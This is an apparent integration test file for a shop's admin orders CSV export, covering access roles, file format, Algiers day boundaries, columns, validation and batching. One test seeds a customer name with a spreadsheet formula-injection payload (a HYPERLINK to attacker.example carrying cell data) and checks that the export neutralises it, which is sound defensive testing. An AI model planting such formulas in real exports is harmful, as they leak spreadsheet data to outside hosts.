import { ORDERS_EXPORT_COLUMNS } from "@shop/domain/contract/admin-orders-export";
import { sql } from "drizzle-orm";
import { beforeAll, describe, expect, it } from "vitest";
import { readCsv } from "../src/lib/csv.js";
import { EXPORT_BATCH } from "../src/modules/order-admin/orders-export.js";
import { createTestApp } from "./database.js";
import { errorOf, Shopper } from "./support/shopper.js";
import { takeSku } from "./support/skus.js";
import { placeOrder, signedInStaff, type StaffClient } from "./support/staff.js";

const { app, db } = await createTestApp({ ORDER_MAX_PER_IP_PER_HOUR: 10_000 });

let owner: StaffClient;
let operator: StaffClient;
let catalogue: StaffClient;

/** Orders placed through the checkout, then dated (UTC instants) as if placed then. */
type Placed = { id: string; number: number };
const placed: Record<"firstOfMarch" | "midMarch" | "lastMinute" | "aprilFirst" | "februaryLast", Placed> =
  {} as never;

const dateOrder = (id: string, instant: string) =>
  db.execute(sql`update orders set created_at = ${instant}::timestamptz where id = ${id}`);

beforeAll(async () => {
  [owner, operator, catalogue] = await Promise.all([
    signedInStaff(app, db, "owner"),
    signedInStaff(app, db, "operator", "Yacine Amrani"),
    signedInStaff(app, db, "catalogue", "Nadia Catalogue"),
  ]);
  const instants = {
    februaryLast: "2031-02-28T22:59:00Z", // 23:59 on 28 February in Algiers (UTC+1)
    firstOfMarch: "2031-02-28T23:00:00Z", // midnight on 1 March in Algiers
    midMarch: "2031-03-15T10:20:00Z",
    lastMinute: "2031-03-31T22:59:59Z", // 23:59:59 on 31 March in Algiers
    aprilFirst: "2031-03-31T23:00:00Z", // midnight on 1 April in Algiers
  } as const;
  for (const [name, instant] of Object.entries(instants) as [keyof typeof instants, string][]) {
    const sku = await takeSku(db, { minStock: 3, promo: false, maxPrice: 4_000 });
    const order = await placeOrder(app, [sku], name === "midMarch" ? 2 : 1);
    await dateOrder(order.id, instant);
    placed[name] = order;
  }
  // A name that would be a live formula in the accountant's spreadsheet, as an older or imported order may hold.
  await db.execute(sql`update orders set first_name = '=HYPERLINK("http://attacker.example/?"&A1,"Voir")', last_name = '+Benali'
                       where id = ${placed.lastMinute.id}`);
  await db.execute(sql`update orders set status = 'shipped', courier = 'Yalidine', tracking_number = 'YAL-1',
                       shipped_at = '2031-03-16T08:00:00Z' where id = ${placed.midMarch.id}`);
});

const exportUrl = (from: string, to: string) => `/api/admin/orders/export?from=${from}&to=${to}`;

async function exported(client: StaffClient, from: string, to: string) {
  const reply = await client.get(exportUrl(from, to));
  expect(reply.status, reply.raw).toBe(200);
  return { reply, rows: readCsv(reply.raw) };
}

describe("the orders export for the accountant", () => {
  it("is the owners' and the operators', never the catalogue role's nor a visitor's", async () => {
    for (const client of [owner, operator]) await exported(client, "2031-03-01", "2031-03-31");
    const refused = await catalogue.get(exportUrl("2031-03-01", "2031-03-31"));
    expect(refused.status).toBe(403);
    expect(errorOf(refused).message).toBe(
      "Réservé aux commandes : demandez l’accès au gérant de la boutique",
    );
    const anonymous = await new Shopper(app).get(exportUrl("2031-03-01", "2031-03-31"));
    expect(anonymous.status).toBe(401);
  });

  it("is a UTF-8 CSV with a byte-order mark, « ; » between cells, named after its days", async () => {
    const { reply, rows } = await exported(owner, "2031-03-01", "2031-03-31");
    expect(reply.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(reply.headers["content-disposition"]).toBe(
      'attachment; filename="commandes-2031-03-01-au-2031-03-31.csv"',
    );
    expect(reply.headers["cache-control"]).toBe("no-store");
    expect(reply.raw.startsWith("\uFEFFN° de commande;Date de commande;")).toBe(true);
    expect(rows[0]).toEqual([...ORDERS_EXPORT_COLUMNS]);
  });

  it("holds the orders of the days in Algiers' time, both days included, oldest first", async () => {
    const numbers = async (from: string, to: string) =>
      (await exported(owner, from, to)).rows.slice(1).map((row) => Number(row[0]));
    expect(await numbers("2031-03-01", "2031-03-31")).toEqual([
      placed.firstOfMarch.number,
      placed.midMarch.number,
      placed.lastMinute.number,
    ]);
    expect(await numbers("2031-02-28", "2031-02-28")).toEqual([placed.februaryLast.number]);
    expect(await numbers("2031-04-01", "2031-04-01")).toEqual([placed.aprilFirst.number]);
    expect(await numbers("2031-03-31", "2031-04-01")).toEqual([
      placed.lastMinute.number,
      placed.aprilFirst.number,
    ]);
    expect(await numbers("2031-03-02", "2031-03-14")).toEqual([]);
  });

  it("writes each order's number, dates, status, customer, wilaya, commune, lines, amounts and payment", async () => {
    const { rows } = await exported(operator, "2031-03-15", "2031-03-15");
    expect(rows).toHaveLength(2);
    const row = Object.fromEntries(ORDERS_EXPORT_COLUMNS.map((column, index) => [column, rows[1]![index]]));
    const truth = (
      await db.execute<Record<string, string | number>>(sql`
        select o.first_name || ' ' || o.last_name as customer, o.phone_number as phone, s.id as "stateCode", s.name as "stateName",
               c.name as commune, o.subtotal, o.discount, o.delivery_fee as "deliveryFee", o.total,
               l.title, l.color_name as colour, l.size, l.line_total as "lineTotal"
          from orders o join states s on s.id = o.state_id join communes c on c.id = o.commune_id
          join order_lines l on l.order_id = o.id
         where o.id = ${placed.midMarch.id}`)
    ).rows[0]!;
    expect(row).toEqual({
      "N° de commande": String(placed.midMarch.number),
      "Date de commande": "2031-03-15 11:20",
      "Date d’expédition": "2031-03-16 09:00",
      "Date de livraison ou de retour": "",
      "Date d’annulation": "",
      Statut: "Expédiée",
      Client: truth.customer,
      Téléphone: truth.phone,
      "Code wilaya": String(truth.stateCode),
      Wilaya: truth.stateName,
      Commune: truth.commune,
      Livraison: "À domicile",
      Articles: `${truth.title} (${truth.colour}, ${truth.size}) x2 : DA ${String(truth.lineTotal).replace(/\B(?=(\d{3})+(?!\d))/g, " ")}`,
      Quantité: "2",
      "Sous-total (DA)": String(truth.subtotal),
      "Remise (DA)": String(truth.discount),
      "Frais de livraison (DA)": String(truth.deliveryFee),
      "Total (DA)": String(truth.total),
      "Mode de paiement": "Paiement à la livraison",
      "État du paiement": "À encaisser à la livraison",
    });
    expect(Number(truth.total)).toBe(
      Number(truth.subtotal) - Number(truth.discount) + Number(truth.deliveryFee),
    );
  });

  it("writes a customer name that is a formula behind an apostrophe, so the spreadsheet shows it as text", async () => {
    const { reply, rows } = await exported(owner, "2031-03-31", "2031-03-31");
    const customer = rows[1]![ORDERS_EXPORT_COLUMNS.indexOf("Client")];
    expect(customer).toBe(`'=HYPERLINK("http://attacker.example/?"&A1,"Voir") +Benali`);
    expect(reply.raw).toContain(`;"'=HYPERLINK(""http://attacker.example/?""&A1,""Voir"") +Benali";`);
    expect(reply.raw).not.toMatch(/;"?=HYPERLINK/);
  });

  it("refuses a period that is not one: missing or impossible days, the end before the start, more than a year", async () => {
    const fields = async (query: string) => {
      const reply = await owner.get(`/api/admin/orders/export${query}`);
      expect(reply.status, query).toBe(400);
      expect(errorOf(reply).code).toBe("VALIDATION_ERROR");
      return errorOf(reply).fields;
    };
    expect(await fields("")).toEqual({
      from: "Choisissez le premier jour de la période",
      to: "Choisissez le dernier jour de la période",
    });
    expect(await fields("?from=2031-02-30&to=2031-03-31")).toEqual({ from: "Date invalide (AAAA-MM-JJ)" });
    expect(await fields("?from=01/03/2031&to=2031-03-31")).toEqual({ from: "Date invalide (AAAA-MM-JJ)" });
    expect(await fields("?from=2031-03-31&to=2031-03-01")).toEqual({
      to: "Le dernier jour doit suivre le premier (ou être le même)",
    });
    expect(await fields("?from=2031-01-01&to=2032-01-01")).toEqual({
      to: "Choisissez une période d’un an au plus",
    });
    // A whole year, a leap one included, is one.
    await exported(owner, "2031-01-01", "2031-12-31");
    await exported(owner, "2032-01-01", "2032-12-31");
  });

  it("reads a long period a batch at a time, every order once, even many placed at the same instant", async () => {
    const count = EXPORT_BATCH * 2 + 345;
    const model = placed.midMarch.id;
    // Copies of a real order in May 2033: most share one instant, so the batches' boundary falls inside a tie.
    await db.execute(sql`
      insert into orders (idempotency_key, type, status, first_name, last_name, phone_number, country, address,
                          state_id, commune_id, delivery_method, payment_method, payment_status, subtotal, discount,
                          delivery_fee, total, fingerprint, created_at)
      select 'export-' || n, type, 'delivered', first_name, last_name || ' ' || n, phone_number, country, address,
             state_id, commune_id, delivery_method, payment_method, payment_status, subtotal, discount, delivery_fee,
             total, fingerprint || n,
             case when n % 5 = 0 then '2033-05-10T12:00:00Z'::timestamptz + n * interval '1 second'
                  else '2033-05-10T12:00:00Z'::timestamptz end
        from orders, generate_series(1, ${count}) as n
       where id = ${model}`);
    const { rows } = await exported(owner, "2033-05-01", "2033-05-31");
    const numbers = rows.slice(1).map((row) => Number(row[0]));
    expect(numbers).toHaveLength(count);
    expect(new Set(numbers).size).toBe(count);
    const expected = await db.execute<{ number: number }>(sql`
      select number from orders where idempotency_key like 'export-%' order by created_at, number`);
    expect(numbers).toEqual(expected.rows.map((row) => row.number));
  });
});
